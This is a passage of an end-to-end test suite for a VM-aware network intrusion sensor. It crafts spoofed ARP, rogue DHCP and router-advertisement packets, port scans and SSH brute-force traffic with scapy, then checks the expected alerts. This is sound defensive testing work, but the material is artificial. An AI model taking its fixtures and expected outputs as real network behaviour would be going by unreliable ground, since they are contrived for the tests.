        "allowed": ("10.20.0.11", "10.20.0.12", WEB_MAC, DB_MAC, 40001, 5432),  # dmz -> db 5432: allowed
        "breach": ("10.20.0.11", "10.20.0.12", WEB_MAC, DB_MAC, 40002, 6379),   # dmz -> db 6379: not allowed
        "back": ("10.20.0.12", "10.20.0.11", DB_MAC, WEB_MAC, 40003, 22),       # db -> dmz: not allowed
        "same": ("10.20.0.11", "10.20.0.21", WEB_MAC, "00:50:56:00:00:21", 40004, 22),  # dmz -> dmz
        "outside": ("192.0.2.7", "10.20.0.11", "00:50:56:00:00:fe", WEB_MAC, 40005, 443),  # external -> vm
        "vcenter": ("10.20.0.11", "10.99.0.5", WEB_MAC, "00:50:56:00:00:05", 40006, 443),  # guest -> vCenter
    }.items():
        s = TcpSession(cap, client, server, cport, sport, cmac, smac)
        flows[name] = s.handshake() - 2  # the SYN
        s.send(b"hello")
        s.close()
    pcap = env.path("vm.pcap")
    cap.write(pcap)
    inventory = env.write("inv.yaml", """sensor: {host: esx-01}
zones: [{name: dmz}, {name: db}]
policy:
  default: alert
  allow: [{from: dmz, to: db, ports: [5432], proto: tcp}]
vms:
  - {name: web-01, zone: dmz, macs: ["00:50:56:00:00:11"], ips: ["10.20.0.11"]}
  - {name: web-02, zone: dmz, macs: ["00:50:56:00:00:21"], ips: ["10.20.0.21"]}
  - {name: db-01, host: esx-02, zone: db, macs: ["00:50:56:00:00:12"], ips: ["10.20.0.12"]}
management:
  - {name: vcenter, addresses: ["10.99.0.0/28"], ports: [443], proto: tcp}
""")
    return pcap, inventory, flows


@case
def zone_policy_and_management_plane(env):
    """sid 5 once per flow, at its first packet, for the flows the zone policy does not allow
    (dmz -> db 6379; db -> dmz 22), none for the allowed port, the same zone or an external
    client; sid 8 when web-01 opens a flow to vCenter. A rule on $ZONE_dmz -> $ZONE_db matches
    the SYNs of both dmz -> db flows and nothing else."""
    pcap, inventory, flows = vm_capture(env)
    rules = 'alert tcp $ZONE_dmz any -> $ZONE_db any (msg:"dmz to db"; flags:S; sid:100;)\n'
    alerts, stats = env.replay([pcap], rules, "--set", f"inventory.file={inventory}")
    # The built-in detectors run before the rules on the same packet.
    got = [(a["pcap_cnt"], a["alert"]["gid"], a["alert"]["signature_id"]) for a in alerts]
    expected = [(flows["allowed"], 1, 100),
                (flows["breach"], 9000, 5), (flows["breach"], 1, 100),
                (flows["back"], 9000, 5),
                (flows["vcenter"], 9000, 8)]
    check(got == expected, f"alerts (pcap_cnt, gid, sid):\n  got      {got}\n  expected {expected}")
    breach = alerts[1]
    check(breach["alert"]["signature"] == "EASTWATCH VM zone-policy violation between guests", "sid 5 msg")
    check((breach["src_ip"], breach["dest_ip"], breach["dest_port"]) == ("10.20.0.11", "10.20.0.12", 6379),
          "the flow's addresses and ports")
    check(breach["flow_id"] == alerts[2]["flow_id"], "a real flow alert")
    check(vm_of(breach) == (("web-01", "dmz", "esx-01"), ("db-01", "db", "esx-02"), False, "inter-host"),
          f"vm {breach.get('vm')}")
    vcenter = alerts[4]
    check(vcenter["alert"]["severity"] == 1 and vcenter["vm"]["scope"] == "vm-to-external", f"{vcenter}")
    check("dest" not in vcenter["vm"], "vCenter is not a VM")
    check(stats["detect"]["alert"] == 5, "gid 9000 alerts count in detect.alert")
    # Switched off: only the rule's alerts.
    shutil.rmtree(env.path("out"))  # eve.json is appended to
    alerts, _ = env.replay([pcap], rules, "--set", f"inventory.file={inventory}", "--set", "vm-detect.enabled=no")
    got = [a["alert"]["signature_id"] for a in alerts]
    check(got == [100, 100], f"vm-detect.enabled=no: {got}")


@case
def vm_rule_variables(env):
    """Rules on the inventory's VM variables ($VM_<name>, '-' as '_') and zones: web-01 -> db-01
    matches the SYNs of the allowed and the breach flow (both web-01 to db-01) and nothing else;
    db-01 -> $ZONE_dmz the SYN of the flow back; not web-02's, the external client's or vCenter's."""
    pcap, inventory, flows = vm_capture(env)
    rules = ('alert tcp $VM_web_01 any -> $VM_db_01 any (msg:"web-01 to db-01"; flags:S; sid:101;)\n'
             'alert tcp $VM_db_01 any -> $ZONE_dmz any (msg:"db-01 to dmz"; flags:S; sid:102;)\n')
    alerts, _ = env.replay([pcap], rules, "--set", f"inventory.file={inventory}", "--set", "vm-detect.enabled=no")
    got = sorted((a["pcap_cnt"], a["alert"]["signature_id"]) for a in alerts)
    expected = sorted([(flows["allowed"], 101), (flows["breach"], 101), (flows["back"], 102)])
    check(got == expected, f"alerts (pcap_cnt, sid):\n  got      {got}\n  expected {expected}")


@case
def bad_inventory_exits_2(env):
    """A bad inventory at start: exit 2, each problem as FILE:LINE: key: what is wrong."""
    inventory = env.write("bad.yaml", "sensor: {host: esx-01}\nzones: [{name: dmz}]\nvms:\n"
                                      "  - {name: web-01, zone: web, macs: [\"00:50:56:00:00:1\"]}\n")
    rules = env.write("r.rules", 'alert tcp any any -> any any (msg:"x"; sid:1;)\n')
    result = env.run("-T", "-S", rules, "--set", f"inventory.file={inventory}", expect_rc=2)
    check(f"{inventory}:4: vms[0].zone: unknown zone 'web' (expected one of the zones: dmz)" in result.stderr,
          result.stderr)
    check(f"{inventory}:4: vms[0].macs: '00:50:56:00:00:1' is not a MAC address" in result.stderr, result.stderr)
    check("invalid inventory (2 problems)" in result.stderr, result.stderr)
    result = env.run("-T", "-S", rules, "--set", f"inventory.file={env.path('missing.yaml')}", expect_rc=2)
    check("cannot open the inventory file" in result.stderr, result.stderr)


@case
def arp_spoofing_between_guests(env):
    """sid 1: web-01's MAC answers ARP for db-01's address (a reply, then a gratuitous ARP), and a
    MAC the inventory does not know claims it too: three alerts, web-01 named as the claimant;
    db-01's own announcement and web-01's plain request for its own address do not alert
    (learned bindings, floods: tests/e2e/vmdetect_e2e.py)."""
    from scapy.all import ARP, Ether
    cap = Capture()
    bcast = "ff:ff:ff:ff:ff:ff"
    own = cap.add(Ether(src=DB_MAC, dst=bcast) / ARP(op=1, hwsrc=DB_MAC, psrc="10.20.0.12", pdst="10.20.0.12"))
    ask = cap.add(Ether(src=WEB_MAC, dst=bcast) / ARP(op=1, hwsrc=WEB_MAC, psrc="10.20.0.11", pdst="10.20.0.12"))
    spoof = cap.add(Ether(src=WEB_MAC, dst=bcast) / ARP(op=2, hwsrc=WEB_MAC, psrc="10.20.0.12", pdst="10.20.0.1"))
    stranger = cap.add(Ether(src="00:50:56:00:00:77", dst=bcast) /
                       ARP(op=2, hwsrc="00:50:56:00:00:77", psrc="10.20.0.12", pdst="10.20.0.1"))
    garp = cap.add(Ether(src=WEB_MAC, dst=bcast) / ARP(op=1, hwsrc=WEB_MAC, psrc="10.20.0.12", pdst="10.20.0.12"))
    pcap = env.path("arp.pcap")
    cap.write(pcap)
    alerts, stats = env.replay([pcap], 'alert tcp any any -> any any (msg:"x"; content:"never"; sid:1;)\n',
                               "--set", f"inventory.file={DEMO_INVENTORY}")
    got = [(a["pcap_cnt"], a["alert"]["gid"], a["alert"]["signature_id"]) for a in alerts]
    check(got == [(spoof, 9000, 1), (stranger, 9000, 1), (garp, 9000, 1)], f"alerts {got} (own {own}, request {ask})")
    check(alerts[0]["src_ip"] == "10.20.0.12" and alerts[0]["dest_ip"] == "10.20.0.1", f"{alerts[0]}")
    check(alerts[0]["vm"]["src"]["name"] == "web-01", f"the claimant: {alerts[0].get('vm')}")


GUEST_INVENTORY = """sensor: {host: esx-01}
zones: [{name: dmz}, {name: infra}]
policy: {default: allow}
vms:
  - {name: web-01, zone: dmz, macs: ["00:50:56:00:00:11"], ips: ["10.20.0.11"]}
  - {name: db-01, host: esx-02, zone: dmz, macs: ["00:50:56:00:00:12"], ips: ["10.20.0.12"]}
  - {name: app-01, zone: dmz, macs: ["00:50:56:00:00:13"], ips: ["10.20.0.13"]}
  - {name: dhcp-01, zone: infra, macs: ["00:50:56:00:00:02"], ips: ["10.20.0.2"], roles: [dhcp-server]}
  - {name: gw-01, zone: infra, macs: ["00:50:56:00:00:01"], ips: ["10.20.0.1", "fe80::1"], roles: [router]}
"""
DHCP_MAC, GW_MAC, STRANGER_MAC = "00:50:56:00:00:02", "00:50:56:00:00:01", "00:50:56:00:00:77"
NEVER_RULE = 'alert tcp any any -> any any (msg:"x"; content:"never"; sid:1;)\n'


def guest_replay(env, cap, name):
    """Replays `cap` with GUEST_INVENTORY; returns (alerts, [(pcap_cnt, gid, sid)], stats)."""
    pcap = env.path(name)
    cap.write(pcap)
    inventory = env.write("guests.yaml", GUEST_INVENTORY)
    alerts, stats = env.replay([pcap], NEVER_RULE, "--set", f"inventory.file={inventory}")
    return alerts, [(a["pcap_cnt"], a["alert"]["gid"], a["alert"]["signature_id"]) for a in alerts], stats


@case
def rogue_dhcp_server_between_guests(env):
    """sid 3: a DHCP OFFER from web-01 (not a dhcp-server) and an ACK from a MAC the inventory
    does not know alert; dhcp-01's (roles: [dhcp-server]) OFFER and ACK, a client's DISCOVER and
    web-01's NAK do not."""
    from scapy.all import BOOTP, DHCP, UDP, Ether
    cap = Capture()
    bcast = "ff:ff:ff:ff:ff:ff"

    def dhcp(mac, src, sport, dport, op, message):
        return cap.add(Ether(src=mac, dst=bcast) / IP(src=src, dst="255.255.255.255") / UDP(sport=sport, dport=dport) /
                       BOOTP(op=op, chaddr=b"\x00\x50\x56\x00\x00\x13", yiaddr="10.20.0.13") /
                       DHCP(options=[("message-type", message), "end"]))
    discover = dhcp(APP_MAC, "0.0.0.0", 68, 67, 1, "discover")
    legit_offer = dhcp(DHCP_MAC, "10.20.0.2", 67, 68, 2, "offer")
    rogue_offer = dhcp(WEB_MAC, "10.20.0.11", 67, 68, 2, "offer")
    legit_ack = dhcp(DHCP_MAC, "10.20.0.2", 67, 68, 2, "ack")
    nak = dhcp(WEB_MAC, "10.20.0.11", 67, 68, 2, "nak")
    stranger_ack = dhcp(STRANGER_MAC, "10.20.0.77", 67, 68, 2, "ack")
    alerts, got, stats = guest_replay(env, cap, "dhcp.pcap")
    check(got == [(rogue_offer, 9000, 3), (stranger_ack, 9000, 3)],
          f"alerts {got} (discover {discover}, legit {legit_offer}/{legit_ack}, nak {nak})")
    check(alerts[0]["alert"]["signature"] == "EASTWATCH VM rogue DHCP server", f"{alerts[0]['alert']}")
    check((alerts[0]["src_ip"], alerts[0]["src_port"], alerts[0]["dest_port"]) == ("10.20.0.11", 67, 68), "addresses")
    check(alerts[0]["vm"]["src"]["name"] == "web-01", f"the rogue server: {alerts[0].get('vm')}")
    check("vm" not in alerts[1], "an unknown server to a broadcast says nothing about VMs")
    check(stats["detect"]["alert"] == 2, "gid 9000 alerts count in detect.alert")


@case
def rogue_router_advertisement_between_guests(env):
    """sid 4: an ICMPv6 router advertisement from web-01's MAC alerts; gw-01's (roles: [router])
    and web-01's router solicitation and neighbour advertisement do not."""
    from scapy.all import ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6ND_RS, IPv6, Ether
    cap = Capture()
    all_nodes = "33:33:00:00:00:01"
    legit = cap.add(Ether(src=GW_MAC, dst=all_nodes) / IPv6(src="fe80::1", dst="ff02::1", hlim=255) / ICMPv6ND_RA())
    solicit = cap.add(Ether(src=WEB_MAC, dst="33:33:00:00:00:02") /
                      IPv6(src="fe80::250:56ff:fe00:11", dst="ff02::2", hlim=255) / ICMPv6ND_RS())
    rogue = cap.add(Ether(src=WEB_MAC, dst=all_nodes) /
                    IPv6(src="fe80::250:56ff:fe00:11", dst="ff02::1", hlim=255) / ICMPv6ND_RA())
    advert = cap.add(Ether(src=WEB_MAC, dst=all_nodes) /
                     IPv6(src="fe80::250:56ff:fe00:11", dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt="fe80::250:56ff:fe00:11"))
    alerts, got, _ = guest_replay(env, cap, "ra.pcap")
    check(got == [(rogue, 9000, 4)], f"alerts {got} (router {legit}, solicitation {solicit}, NA {advert})")
    check(alerts[0]["alert"]["signature"] == "EASTWATCH VM rogue IPv6 router advertisement", f"{alerts[0]['alert']}")
    check(alerts[0]["icmp_type"] == 134 and alerts[0]["proto"] == "IPv6-ICMP", f"{alerts[0]}")
    check(alerts[0]["vm"]["src"]["name"] == "web-01", f"by its MAC: {alerts[0].get('vm')}")


@case
def mac_spoofing_between_guests(env):
    """sid 2: a frame with web-01's MAC and db-01's source address alerts (vm.src: web-01, the
    MAC's owner); web-01's own traffic, gw-01 (roles: [router]) forwarding db-01's packet and a
    MAC the inventory does not know do not."""
    cap = Capture()
    own = udp_packet(cap, "10.20.0.11", "10.20.0.13", 5000, 53, b"own", smac=WEB_MAC, dmac=APP_MAC)
    spoofed = udp_packet(cap, "10.20.0.12", "10.20.0.13", 5001, 53, b"spoofed", smac=WEB_MAC, dmac=APP_MAC)
    routed = udp_packet(cap, "10.20.0.12", "10.20.0.13", 5002, 53, b"routed", smac=GW_MAC, dmac=APP_MAC)
    stranger = udp_packet(cap, "10.20.0.12", "10.20.0.13", 5003, 53, b"stranger", smac=STRANGER_MAC, dmac=APP_MAC)
    alerts, got, _ = guest_replay(env, cap, "spoof.pcap")
    check(got == [(spoofed, 9000, 2)], f"alerts {got} (own {own}, routed {routed}, unknown MAC {stranger})")
    check(alerts[0]["alert"]["signature"].startswith("EASTWATCH VM MAC spoofing"), f"{alerts[0]['alert']}")
    check(alerts[0]["src_ip"] == "10.20.0.12", "the claimed address")
    check(vm_of(alerts[0])[:2] == (("web-01", "dmz", "esx-01"), ("app-01", "dmz", "esx-01")), f"{alerts[0].get('vm')}")


@case
def port_scan_of_a_neighbour(env):
    """sid 6: web-01 sends SYNs to 30 ports of db-01 (each refused): one alert, at the 21st port
    (more than vm-detect.scan.ports 20 within 60 s); app-01 opening 5 connections to two of
    db-01's ports does not alert."""
    cap = Capture()
    for i in range(5):
        TcpSession(cap, "10.20.0.13", "10.20.0.12", 42000 + i, 5432 if i % 2 else 80, APP_MAC, DB_MAC).handshake()
    syns = [TcpSession(cap, "10.20.0.11", "10.20.0.12", 43000 + port, port, WEB_MAC, DB_MAC).refused() - 1
            for port in range(1, 31)]
    alerts, got, _ = guest_replay(env, cap, "scan.pcap")
    check(got == [(syns[20], 9000, 6)], f"alerts {got}, SYNs at {syns}")
    check(alerts[0]["alert"]["signature"] == "EASTWATCH VM port scan or host sweep of neighbours", "msg")
    check((alerts[0]["src_ip"], alerts[0]["dest_ip"], alerts[0]["dest_port"]) == ("10.20.0.11", "10.20.0.12", 21),
          f"{alerts[0]}")
    check(vm_of(alerts[0]) == (("web-01", "dmz", "esx-01"), ("db-01", "dmz", "esx-02"), False, "inter-host"),
          f"{alerts[0].get('vm')}")


@case
def ssh_brute_force_between_guests(env):
    """sid 7: 12 SSH connections from web-01 to db-01 within seconds: one alert, at the 11th SYN
    (more than vm-detect.brute-force.connections 10); app-01's 3 SSH connections and web-01's 12
    connections to db-01's port 80 do not alert. With connections raised to 20: none."""
    cap = Capture()
    syns = []
    for i in range(12):
        s = TcpSession(cap, "10.20.0.11", "10.20.0.12", 44000 + i, 22, WEB_MAC, DB_MAC)
        syns.append(s.handshake() - 2)
        s.send(b"SSH-2.0-OpenSSH_9.2\r\n")
        s.close()
        TcpSession(cap, "10.20.0.11", "10.20.0.12", 45000 + i, 80, WEB_MAC, DB_MAC).handshake()
        if i < 3:
            TcpSession(cap, "10.20.0.13", "10.20.0.12", 46000 + i, 22, APP_MAC, DB_MAC).handshake()
    alerts, got, _ = guest_replay(env, cap, "brute.pcap")
    check(got == [(syns[10], 9000, 7)], f"alerts {got}, SSH SYNs at {syns}")
    check(alerts[0]["alert"]["signature"] == "EASTWATCH VM brute force against SSH, RDP, SMB or WinRM of a neighbour",
          "msg")
    check(alerts[0]["dest_port"] == 22 and alerts[0]["vm"]["dest"]["name"] == "db-01", f"{alerts[0]}")
    shutil.rmtree(env.path("out"))  # eve.json is appended to
    inventory = env.path("guests.yaml")
    alerts, _ = env.replay([env.path("brute.pcap")], NEVER_RULE, "--set", f"inventory.file={inventory}",
                           "--set", "vm-detect.brute-force.connections=20")
    check(alerts == [], f"connections 20: {[a['alert']['signature_id'] for a in alerts]}")


def pcap_records(path):
    """A classic pcap file as (file header, [record bytes...])."""
    data = open(path, "rb").read()
    records, offset = [], 24
    while offset < len(data):
        length = int.from_bytes(data[offset + 8:offset + 12], "little")
        records.append(data[offset:offset + 16 + length])
        offset += 16 + length
    return data[:24], records


@case
def inventory_reload_during_replay(env):
    """The inventory changes while a replay runs (the capture read from a pipe): flow A is
    inspected with the old inventory, then the file is rewritten and SIGHUP sent; once the sensor
    reports the reload, flow B is written: its alert names the renamed VM, A's the old name."""
    import select
    import signal
    import time
    cap = Capture()
    a = TcpSession(cap, "10.20.0.11", "10.20.0.12", 41000, 80, WEB_MAC, DB_MAC)
    a.handshake()
    a.send(b"RELOADTEST")
    for i in range(40):  # fill the reader's first burst (32 frames) so flow A is processed now
        udp_packet(cap, "192.0.2.1", "192.0.2.2", 1000 + i, 9, b"pad")
    split = len(cap.packets)
    b = TcpSession(cap, "10.20.0.11", "10.20.0.12", 41001, 80, WEB_MAC, DB_MAC)
    b.handshake()
    b.send(b"RELOADTEST")
    pcap = env.path("reload.pcap")
    cap.write(pcap)
    header, records = pcap_records(pcap)
    old = open(DEMO_INVENTORY).read()
    inventory = env.write("inv.yaml", old)
    rules = env.write("r.rules", 'alert tcp any any -> any any (msg:"marker"; content:"RELOADTEST"; sid:200;)\n')
    out = env.path("out")
    os.makedirs(out)
    process = subprocess.Popen([env.binary, "-r", "/dev/stdin", "-S", rules, "-l", out, "-q",
                                "--set", f"inventory.file={inventory}"],
                               stdin=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        process.stdin.write(header + b"".join(records[:split]))
        process.stdin.flush()
        eve = os.path.join(out, "eve.json")
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and not (os.path.exists(eve) and '"signature_id":200' in open(eve).read()):
            time.sleep(0.05)
        check('"signature_id":200' in open(eve).read(), "flow A's alert before the reload")
        env.write("inv.yaml.new", old.replace("name: web-01,", "name: web-01-renamed,"))
        os.rename(env.path("inv.yaml.new"), inventory)
        process.send_signal(signal.SIGHUP)
        seen = b""
        while time.monotonic() < deadline and b"inventory reloaded" not in seen:
            ready, _, _ = select.select([process.stderr], [], [], 0.5)
            if ready:
                seen += os.read(process.stderr.fileno(), 4096)
        check(b"inventory reloaded" in seen, f"no reload reported: {seen!r}")
        process.stdin.write(b"".join(records[split:]))
        process.stdin.close()
        rest = process.stderr.read()
        process.wait(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
    check(process.returncode == 0, f"exit {process.returncode}: {(seen + rest).decode(errors='replace')}")
    env.validate(eve)
    alerts = [json.loads(line) for line in open(eve) if '"event_type":"alert"' in line]
    names = [(a["src_port"], a["vm"]["src"]["name"]) for a in alerts]
    check(names == [(41000, "web-01"), (41001, "web-01-renamed")], f"names {names}")
    check("inventory.reloads" in open(os.path.join(out, "stats.log")).read(), "reloads counted")


# A leaf certificate made once with openssl (tests/unit/applayer/tls_builder.hpp has the same
# one and the `openssl x509 -noout -subject -issuer -serial -fingerprint -dates` figures).
TLS_LEAF_DER = bytes.fromhex(
    "308201893082012f02070a1b2c3d4e5f60300a06082a8648ce3d0403023047310b3009060355040613025553311a3018"
    "060355040a0c114561737477617463682054657374204341311c301a06035504030c1345617374776174636820546573"
    "7420526f6f74301e170d3234303130313030303030305a170d3334313233313233353935395a3054310b300906035504"
    "06130255533113301106035504080c0a43616c69666f726e696131153013060355040a0c0c4578616d706c6520436f72"
    "703119301706035504030c10746573742e6578616d706c652e636f6d3059301306072a8648ce3d020106082a8648ce3d"
    "03010703420004ec7f4e37a8781fddd2b6bdae85973b6d52a198867fffbc4759a9a728035e2f031f5a83c3f673b05c63"
    "1e47956feaa8fa57d76adee9a9e27830a77b5d33ad3031300a06082a8648ce3d04030203480030450220468fb4d48710"
    "56a297a22efa4d868fb6a79517737a39d348e15f79f2cb812f75022100b202c997aa3f5da97a5a66cbdf005dae94dffb"
    "e2e535823cc04ddab5a82471bd")


def _tls_record(kind, body, version=0x0303):
    return bytes([kind]) + version.to_bytes(2, "big") + len(body).to_bytes(2, "big") + body


def _tls_handshake(kind, body):
    return bytes([kind]) + len(body).to_bytes(3, "big") + body


def _tls_ext(kind, body):
    return kind.to_bytes(2, "big") + len(body).to_bytes(2, "big") + body


@case
def tls_handshake_eve_object(env):
    """A TLS 1.2 handshake (ClientHello with SNI and GREASE values, ServerHello, Certificate,
    ServerHelloDone) on port 8443: alerts of the flow carry Suricata 7's `tls` object. The
    ClientHello's alert has sni and ja3 and version "UNDETERMINED" (Suricata logs the server's
    version, not known yet); the server flight's alert adds the leaf's subject, issuerdn, serial,
    fingerprint, validity, ja3s and "TLS 1.2". JA3 by hand (Salesforce: GREASE dropped, decimal):
    771,49199-49200-156,0-10-11-13,29-23,0."""
    import hashlib
    sni = b"e2e.example.net"
    exts = (_tls_ext(0x2a2a, b"") + _tls_ext(0, (len(sni) + 3).to_bytes(2, "big") + b"\x00" + len(sni).to_bytes(2, "big") + sni)
            + _tls_ext(10, bytes([0, 4, 0, 29, 0, 23])) + _tls_ext(11, bytes([1, 0]))
            + _tls_ext(13, bytes([0, 4, 4, 3, 8, 4])))
    ciphers = bytes([0x1a, 0x1a, 0xc0, 0x2f, 0xc0, 0x30, 0x00, 0x9c])
    hello = (bytes([3, 3]) + bytes(32) + bytes([0]) + len(ciphers).to_bytes(2, "big") + ciphers + bytes([1, 0])
             + len(exts).to_bytes(2, "big") + exts)
    server_exts = _tls_ext(65281, b"\x00") + _tls_ext(11, bytes([1, 0]))
    server_hello = bytes([3, 3]) + bytes(32) + bytes([0]) + bytes([0xc0, 0x2f, 0]) + len(server_exts).to_bytes(2, "big") \
        + server_exts
    chain = len(TLS_LEAF_DER).to_bytes(3, "big") + TLS_LEAF_DER
    flight = _tls_record(22, _tls_handshake(2, server_hello) + _tls_handshake(11, len(chain).to_bytes(3, "big") + chain)
                         + _tls_handshake(14, b""))
    cap = Capture()
    tls = TcpSession(cap, "10.0.2.1", "10.0.2.2", 41000, 8443)
    tls.handshake()
    client_packet = tls.send(_tls_record(22, _tls_handshake(1, hello), 0x0301))
    # The server flight in two segments, split inside the certificate (before the subject's O=).
    split = flight.index(b"Example Corp") - 10
    tls.send(flight[:split], to_server=False)
    server_packet = tls.send(flight[split:], to_server=False)
    tls.close()
    cap.write(env.path("tls.pcap"))
    rules = ('alert tcp any any -> any any (msg:"sni bytes"; flow:to_server; content:"e2e.example.net"; sid:1;)\n'
             'alert tcp any any -> any any (msg:"certificate org"; flow:to_client; content:"Example Corp"; sid:2;)\n')
    alerts, stats = env.replay([env.path("tls.pcap")], rules)
    expect_alerts(alerts, [(client_packet, 1), (server_packet, 2)])
    ja3 = "771,49199-49200-156,0-10-11-13,29-23,0"
    first = alerts[0].get("tls")
    check(first == {"sni": "e2e.example.net", "version": "UNDETERMINED",
                    "ja3": {"hash": hashlib.md5(ja3.encode()).hexdigest(), "string": ja3}}, first)
    ja3s = "771,49199,65281-11"
    expected = {
        "subject": "C=US, ST=California, O=Example Corp, CN=test.example.com",
        "issuerdn": "C=US, O=Eastwatch Test CA, CN=Eastwatch Test Root",
        "serial": "0A:1B:2C:3D:4E:5F:60",
        "fingerprint": "d3:57:37:d4:a2:2a:e2:2e:88:b2:56:a1:8b:89:08:03:69:36:ee:8c",
        "sni": "e2e.example.net", "version": "TLS 1.2",
        "notbefore": "2024-01-01T00:00:00", "notafter": "2034-12-31T23:59:59",
        "ja3": {"hash": hashlib.md5(ja3.encode()).hexdigest(), "string": ja3},
        "ja3s": {"hash": hashlib.md5(ja3s.encode()).hexdigest(), "string": ja3s},
    }
    second = alerts[1].get("tls")
    check(second == expected, f"tls object:\n  got      {second}\n  expected {expected}")
    check(list(second) == list(expected), f"field order {list(second)}")
    app = stats["app_layer"]
    check(app["flow"]["tls"] == 1 and app["tx"]["tls"] == 1, app)
    check(app["error"]["tls"] == {"gap": 0, "alloc": 0, "parser": 0}, app["error"]["tls"])



def _dns_name(dotted):
    return b"".join(bytes([len(label)]) + label.encode() for label in dotted.split(".")) + b"\x00"


@case
def dns_eve_object(env):
    """DNS over UDP (a query, then its response with a compressed CNAME and an A record) and over
    TCP (a length-prefixed query split over two segments, a TXT response): alerts of DNS flows
    carry the `dns` object as Suricata 8 writes it in alerts (version 3; Suricata 7's `query`
    array has no `version`, which the schema requires, and no answers). Every message is its own
    transaction (Suricata's DNS parser: the response is tx 1). flags in hex without leading zeros,
    the set bits as booleans, rcode and rrtype by name, A rdata as a dotted quad."""
    cap = Capture()
    question = _dns_name("www.example.com") + bytes([0, 1, 0, 1])
    query = bytes([0x11, 0x11, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]) + question
    # CNAME www.example.com -> "web" + pointer to example.com (offset 16); A of web.example.com
    # (its name a pointer to the CNAME's rdata at offset 45).
    answers = (bytes([0xc0, 12, 0, 5, 0, 1]) + (300).to_bytes(4, "big") + bytes([0, 6, 3]) + b"web" + bytes([0xc0, 16])
               + bytes([0xc0, 45, 0, 1, 0, 1]) + (60).to_bytes(4, "big") + bytes([0, 4, 10, 0, 3, 80]))
    response = bytes([0x11, 0x11, 0x81, 0x80, 0, 1, 0, 2, 0, 0, 0, 0]) + question + answers
    udp_query = udp_packet(cap, "10.0.3.1", "10.0.3.53", 5300, 53, query)
    udp_response = udp_packet(cap, "10.0.3.53", "10.0.3.1", 53, 5300, response)
    tcp = TcpSession(cap, "10.0.3.1", "10.0.3.53", 41001, 53)
    tcp.handshake()
    tcp_question = _dns_name("files.example.org") + bytes([0, 16, 0, 1])
    tcp_query = bytes([0x22, 0x22, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]) + tcp_question
    framed = len(tcp_query).to_bytes(2, "big") + tcp_query
    tcp.send(framed[:14])  # the length prefix and the header
    tcp_query_packet = tcp.send(framed[14:])
    txt = b"v=spf1 -all"
    tcp_response = (bytes([0x22, 0x22, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]) + tcp_question
                    + bytes([0xc0, 12, 0, 16, 0, 1]) + (3600).to_bytes(4, "big") + (len(txt) + 1).to_bytes(2, "big")
                    + bytes([len(txt)]) + txt)
    tcp_response_packet = tcp.send(len(tcp_response).to_bytes(2, "big") + tcp_response, to_server=False)
    tcp.close()
    cap.write(env.path("dns.pcap"))
    rules = ('alert udp any any -> any any (msg:"udp name"; content:"|03|www|07|example|03|com|00|"; sid:1;)\n'
             'alert tcp any any -> any any (msg:"tcp name"; content:"|05|files|07|example|03|org|00|"; sid:2;)\n')
    alerts, stats = env.replay([env.path("dns.pcap")], rules)
    expect_alerts(alerts, [(udp_query, 1), (udp_response, 1), (tcp_query_packet, 2), (tcp_response_packet, 2)])
    www = [{"rrname": "www.example.com", "rrtype": "A"}]
    expected = [
        {"version": 3, "type": "request", "tx_id": 0, "id": 0x1111, "flags": "100", "rd": True, "opcode": 0,
         "rcode": "NOERROR", "queries": www},
        {"version": 3, "type": "response", "tx_id": 1, "id": 0x1111, "flags": "8180", "qr": True, "rd": True,
         "ra": True, "opcode": 0, "rcode": "NOERROR", "queries": www,
         "answers": [{"rrname": "www.example.com", "rrtype": "CNAME", "ttl": 300, "rdata": "web.example.com"},
                     {"rrname": "web.example.com", "rrtype": "A", "ttl": 60, "rdata": "10.0.3.80"}]},
        {"version": 3, "type": "request", "tx_id": 0, "id": 0x2222, "flags": "100", "rd": True, "opcode": 0,
         "rcode": "NOERROR", "queries": [{"rrname": "files.example.org", "rrtype": "TXT"}]},
        {"version": 3, "type": "response", "tx_id": 1, "id": 0x2222, "flags": "8180", "qr": True, "rd": True,
         "ra": True, "opcode": 0, "rcode": "NOERROR", "queries": [{"rrname": "files.example.org", "rrtype": "TXT"}],
         "answers": [{"rrname": "files.example.org", "rrtype": "TXT", "ttl": 3600, "rdata": "v=spf1 -all"}]},
    ]
    for alert, want in zip(alerts, expected):
        got = alert.get("dns")
        check(got == want, f"dns object at packet {alert['pcap_cnt']}:\n  got      {got}\n  expected {want}")
        check(list(got) == list(want), f"field order {list(got)}")
        check(alert.get("app_proto") == "dns", alert)
    app = stats["app_layer"]
    check(app["flow"]["dns_udp"] == 1 and app["flow"]["dns_tcp"] == 1, app["flow"])
    check(app["tx"]["dns_udp"] == 2 and app["tx"]["dns_tcp"] == 2, app["tx"])
    check(app["error"]["dns_udp"] == {"parser": 0} and app["error"]["dns_tcp"] == {"parser": 0, "gap": 0, "alloc": 0},
          app["error"])

@case
def redis_sink_spool_across_runs(env):
    """The Redis sink through an outage that outlasts a run (issue 8): the first replay ends
    while Redis is down, so its records stay in the spool; the second run, with Redis up,
    delivers them first, then its own, each exactly once. The sink gets every record that
    eve.json gets: the demo's 18 alerts and the end-of-run stats record."""
    import socket
    import time
    if not os.access("/usr/bin/redis-server", os.X_OK):
        print("  skipped: redis-server is not installed (packaging/scripts/install-deps.sh)")
        return
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    pcap = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    rules = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    spool = env.path("spool")
    sink = ["--set", "outputs.redis.enabled=yes", "--set", f"outputs.redis.port={port}",
            "--set", "outputs.redis.key=soc", "--set", f"spool.dir={spool}", "--set", "spool.drain-timeout=300",
            "--set", "sensor.name=e2e-sensor"]

    def sink_counters():
        # The last block of stats.log holds the sinks' final counters.
        counters = {}
        for line in open(env.path("out/stats.log")):
            parts = [p.strip() for p in line.split("|")]
            if len(parts) == 3 and parts[0].startswith("sinks.redis."):
                counters[parts[0][len("sinks.redis."):]] = int(parts[2])
        return counters

    first_alerts, _ = env.replay([pcap], rules, *sink)
